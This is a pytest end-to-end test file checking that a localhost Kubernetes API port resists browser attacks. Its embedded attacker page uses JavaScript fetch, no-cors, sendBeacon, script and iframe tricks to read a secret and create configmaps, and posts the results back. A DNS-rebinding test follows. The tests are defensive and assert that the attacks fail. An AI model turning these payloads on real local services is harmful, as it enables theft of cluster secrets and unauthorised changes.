"""A page in the browser of the person at the machine neither reads nor writes through the port without tokens."""

import base64
import http.server
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest

from tests.conftest import need
from tests.e2e.attacks.site import CANARY, VICTIM, Site
from tests.waiting import eventually_sync

pytestmark = [pytest.mark.docker, pytest.mark.kubectl]

SECRET = f"/api/v1/namespaces/{VICTIM}/secrets/crown"
MAPS = f"/api/v1/namespaces/{VICTIM}/configmaps"
MADE = json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "NAME"}})
ENCODED = base64.b64encode(CANARY.encode()).decode()
PAGE = """<!doctype html><title>free games</title><script>
const api = "API", results = {};
async function attempt(name, work) {
  try { results[name] = String(await work()); } catch (error) { results[name] = "failed: " + error; }
}
const text = (path, more) => fetch(api + path, more).then(answer => answer.text());
const post = (name, more) => fetch(api + "MAPS", {method: "POST", body: 'MADE'.replace("NAME", name), ...more}).then(answer => answer.type);
(async () => {
  await attempt("read", () => text("SECRET"));
  await attempt("read without cors", () => text("SECRET", {mode: "no-cors"}));
  await attempt("read with credentials", () => text("SECRET", {credentials: "include"}));
  await attempt("write json", () => post("json", {headers: {"Content-Type": "application/json"}}));
  await attempt("write text", () => post("text", {mode: "no-cors", headers: {"Content-Type": "text/plain"}}));
  await attempt("write blindly", () => post("blind", {mode: "no-cors"}));
  await attempt("beacon", () => navigator.sendBeacon(api + "MAPS", 'MADE'.replace("NAME", "beacon")));
  await attempt("script", () => new Promise(done => {
    const tag = document.createElement("script"); tag.src = api + "SECRET"; tag.onload = tag.onerror = event => done(event.type);
    document.head.append(tag);
  }));
  await attempt("frame", () => new Promise(done => {
    const frame = document.createElement("iframe"); frame.src = api + "SECRET";
    frame.onload = () => { try { done(frame.contentDocument.body.textContent) } catch (error) { done("closed: " + error) } };
    document.body.append(frame);
  }));
  await fetch("/results", {method: "POST", body: JSON.stringify(results)});
})();
</script><body></body>"""  # noqa: E501


@dataclass
class Evil:
    """A web server of the attacker's."""

    port: int = 0
    page: str = ""
    results: dict[str, str] = field(default_factory=dict)


@pytest.fixture(scope="module")
def evil() -> Iterator[Evil]:
    made = Evil()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(made.page.encode())

        def do_POST(self) -> None:
            made.results = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        made.port = server.server_address[1]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield made
        server.shutdown()


@dataclass
class Browser:
    """Chromium without a window."""

    folder: Path

    def command(self, *arguments: str) -> list[str]:
        # Without its own sandbox, which root cannot have; everything that it opens is the test's own.
        return ["chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--no-first-run", f"--user-data-dir={self.folder}", *arguments]  # fmt: skip

    def shows(self, url: str, *arguments: str) -> str:
        """The page at an address, as the browser has it."""
        command = self.command("--dump-dom", "--timeout=10000", *arguments, url)
        return subprocess.run(command, capture_output=True, text=True, timeout=60).stdout


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Browser:
    need("CHROMIUM", shutil.which("chromium") is not None)
    return Browser(tmp_path_factory.mktemp("browser"))


def names(site: Site) -> set[str]:
    listed = json.loads(site.admin.kubectl("get", "configmaps", "-n", VICTIM, "-o", "json").stdout)
    return {item["metadata"]["name"] for item in listed["items"]}


def test_a_page_of_the_attackers_reads_and_writes_nothing(site: Site, evil: Evil, browser: Browser) -> None:
    evil.page = PAGE.replace("API", site.plain).replace("SECRET", SECRET).replace("MAPS", MAPS).replace("MADE", MADE)
    before = names(site)
    process = subprocess.Popen(
        browser.command("--remote-debugging-port=0", f"http://127.0.0.1:{evil.port}/"),
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        results = eventually_sync(lambda: evil.results, within=60, condition="the page's attempts")
    finally:
        process.terminate()
        process.wait(20)
    assert set(results) >= {"read", "write text", "beacon", "script", "frame"}
    assert not [name for name, text in results.items() if ENCODED in text or CANARY in text]
    assert names(site) == before


@pytest.mark.parametrize("host", ["games.example.com", "api", "localhost.example.com"])
def test_a_name_that_is_pointed_at_this_machine_opens_nothing(site: Site, browser: Browser, host: str) -> None:
    """DNS rebinding: the browser takes the page and the API for one origin."""
    rules = f"--host-resolver-rules=MAP {host} 127.0.0.1"
    assert ENCODED not in browser.shows(f"http://{host}:{site.ports['API']}{SECRET}", rules)


def test_without_the_check_of_origins_and_names_it_would(site: Site, browser: Browser) -> None:
    """The same requests without what tells of a page: an address of this machine, and no Origin."""
    assert ENCODED in browser.shows(f"{site.plain}{SECRET}")
    made = MADE.replace("NAME", "written")
    answer = httpx.post(f"{site.plain}{MAPS}", content=made, headers={"Content-Type": "text/plain"})
    assert answer.status_code in (201, 415), answer.text
    if answer.status_code == 415:
        answer = httpx.post(f"{site.plain}{MAPS}", content=made, headers={"Content-Type": "application/json"})
    assert answer.status_code == 201, answer.text
    assert "written" in names(site)
    site.admin.kubectl("delete", "configmap", "written", "-n", VICTIM)
